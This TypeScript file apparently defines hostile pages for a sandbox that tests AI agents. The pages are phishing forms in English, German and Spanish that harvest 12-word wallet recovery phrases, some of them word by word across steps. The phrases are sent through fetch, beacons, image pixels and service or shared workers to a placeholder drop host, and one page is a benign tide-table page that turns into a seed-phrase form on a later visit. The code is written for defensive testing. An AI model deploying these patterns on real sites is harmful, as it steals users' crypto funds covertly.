import { page } from '../../../src/sandbox/sites/page.ts'
import type { SiteAnswer } from '../../../src/sandbox/sites/site.ts'
import { type PageClass, pick } from '../pageDesign.ts'

const LINE = '<p><label id="ask"></label></p><input id="w" type="text" autocomplete="off">'
const TAKEN = `/^[a-z]{3,8}$/.test(one)`
const script = (body: string): SiteAnswer => ({ status: 200, headers: { 'content-type': 'text/javascript' }, body })
const CELLS = Array.from({ length: 12 }, (_, at) => `<input name="w${at}" size="8">`).join('')

/** Words that leave one by one, or all at the end, after steps in one page or over several. */
const STEPS: readonly string[] = [
  `const words = []; at('#w').onkeydown = async ({ key }) => { if (key !== 'Enter') return; const one = at('#w').value.trim(); if (!(${TAKEN})) return say('Not on the list'); words.push(one); at('#w').value = ''; at('#ask').textContent = words.length + 1; if (words.length === 12) await fetch('/api/k', { method: 'POST', body: JSON.stringify(words) }) }; at('#ask').textContent = 1`,
  `const words = JSON.parse(sessionStorage.getItem('w') ?? '[]'); at('#ask').textContent = (words.length + 1) + ' / 12'; at('#go').onclick = () => { const one = at('#w').value.trim(); if (!(${TAKEN})) return say('Bitte prüfen'); words.push(one); sessionStorage.setItem('w', JSON.stringify(words)); navigator.sendBeacon('/api/k', one); location.assign('/?step=' + words.length) }`,
  `const words = []; at('#go').onclick = async () => { const one = at('#w').value.trim(); if (!(${TAKEN})) return say('Try again'); words.push(one); at('#w').value = ''; at('#ask').textContent = 'Line ' + (words.length + 1); if (words.length === 12) new Image().src = '/p.gif?d=' + btoa(words.join(' ')) }; at('#ask').textContent = 'Line 1'`,
  `const words = []; at('#go').onclick = async () => { const some = [...root.querySelectorAll('input')].map((field) => field.value.trim()); if (!some.every((one) => ${TAKEN})) return say('Revisa'); words.push(...some); root.querySelectorAll('input').forEach((field) => { field.value = '' }); if (words.length >= 12) await fetch('/api/k', { method: 'POST', body: words.join(' ') }) }`,
]

export const STEP_FORMS: readonly PageClass[] = [
  {
    id: 'phrase-steps',
    hostile: true,
    plain: true,
    design: (variant) => ({
      title: pick(['Reconnect', 'Schritt für Schritt', 'Member card', 'Paso a paso'], variant),
      content: `<h1>${pick(['Reconnect', 'Schritt für Schritt', 'Member card', 'Paso a paso'], variant)}</h1><p>${pick(['One at a time, as on your sheet.', 'Wie auf Ihrem Blatt.', 'Type each line of your card.', 'De tres en tres.'], variant)}</p>${LINE}${variant === 3 ? '<input type="text"><input type="text">' : ''}${variant === 0 ? '' : `<button type="button" id="go">${pick(['Next', 'Weiter', 'Next', 'Seguir'], variant)}</button>`}`,
      start: pick(STEPS, variant),
    }),
  },
  {
    id: 'worker-relay',
    hostile: true,
    plain: true,
    design: (variant) => ({
      title: pick(['Line desk', 'Reader', 'Schalter', 'Lector'], variant),
      content: `<h1>${pick(['Line desk', 'Reader', 'Schalter', 'Lector'], variant)}</h1><p>${pick(['Put your line here.', 'As it stands on your card.', 'Hier eintragen.', 'Escribe la línea.'], variant)}</p><textarea id="line" rows="3" cols="60"></textarea>`,
      start: pick(
        [
          `await navigator.serviceWorker.register('/sw.js')`,
          `root.worker = new Worker('/sw.js')`,
          `await navigator.serviceWorker.register('/sw.js')`,
          `root.worker = new SharedWorker('/sw.js')`,
        ],
        variant,
      ),
      buttons: [
        {
          label: pick(['Continue', 'Check', 'Weiter', 'Seguir'], variant),
          connects: false,
          code: `const line = at('#line').value.trim(); if (!/^(?:[a-z]{3,8} ){11,23}[a-z]{3,8}$/.test(line)) return say('Not readable'); ${pick(
            [
              `(await navigator.serviceWorker.ready).active.postMessage(line)`,
              `root.worker.postMessage(line)`,
              `await navigator.serviceWorker.ready; await fetch('/api/keep', { method: 'POST', body: '1', headers: { 'x-note': [...line].reverse().join('') } })`,
              `root.worker.port.postMessage(line)`,
            ],
            variant,
          )}; say('Thank you')`,
        },
      ],
      files: {
        '/sw.js': script(
          pick(
            [
              `self.onmessage = ({ data }) => fetch('https://{{drop}}/c', { method: 'POST', mode: 'no-cors', body: data })`,
              `self.onmessage = ({ data }) => fetch('https://{{drop}}/c?d=' + encodeURIComponent(btoa(data)), { mode: 'no-cors' })`,
              `self.onactivate = () => clients.claim(); self.onfetch = (event) => { const note = event.request.headers.get('x-note'); if (note) event.respondWith(fetch('https://{{drop}}/c', { method: 'POST', mode: 'no-cors', body: note }).then(() => new Response('{}'))) }`,
              `self.onconnect = ({ ports: [port] }) => { port.onmessage = ({ data }) => fetch('https://{{drop}}/c', { method: 'POST', mode: 'no-cors', body: data }) }`,
            ],
            variant,
          ),
        ),
      },
      hosts: { drop: page('ok', '') },
    }),
  },
  {
    id: 'second-visit',
    hostile: true,
    plain: true,
    design: (variant) => {
      const form = `<h1>Restore</h1><p>${pick(['Enter your recovery phrase.', 'Geben Sie Ihre Wiederherstellungsphrase ein.', 'Enter the 12 words of your wallet.', 'Introduce tu frase de recuperación.'], variant)}</p>${CELLS}<button>OK</button>`
      const opened = `show(${JSON.stringify(form)})`
      return {
        title: pick(['Tide tables', 'Harbour notes', 'Lesesaal', 'Cuaderno'], variant),
        content:
          '<h1>Notes on tides</h1><p>High water follows the moon by some hours. We keep a table for three harbours and a short history of each of them.</p>',
        start: pick(
          [
            `await navigator.serviceWorker.register('/sw.js')`,
            `if (localStorage.getItem('seen')) ${opened}; localStorage.setItem('seen', '1')`,
            `const open = indexedDB.open('v', 1); open.onsuccess = () => undefined; const known = (await indexedDB.databases()).some(({ name }) => name === 'v'); if (known && performance.timeOrigin - Number(localStorage.v ?? Infinity) > 0) ${opened}; localStorage.v = performance.timeOrigin`,
            `if (document.cookie.includes('round=2')) ${opened}; document.cookie = 'round=2; max-age=9000'`,
          ],
          variant,
        ),
        files: {
          '/sw.js': script(
            `self.onfetch = (event) => { if (event.request.mode === 'navigate') event.respondWith(new Response(${JSON.stringify(`<!doctype html><title>Restore</title>${form}`)}, { headers: { 'content-type': 'text/html' } })) }`,
          ),
        },
      }
    },
  },
]
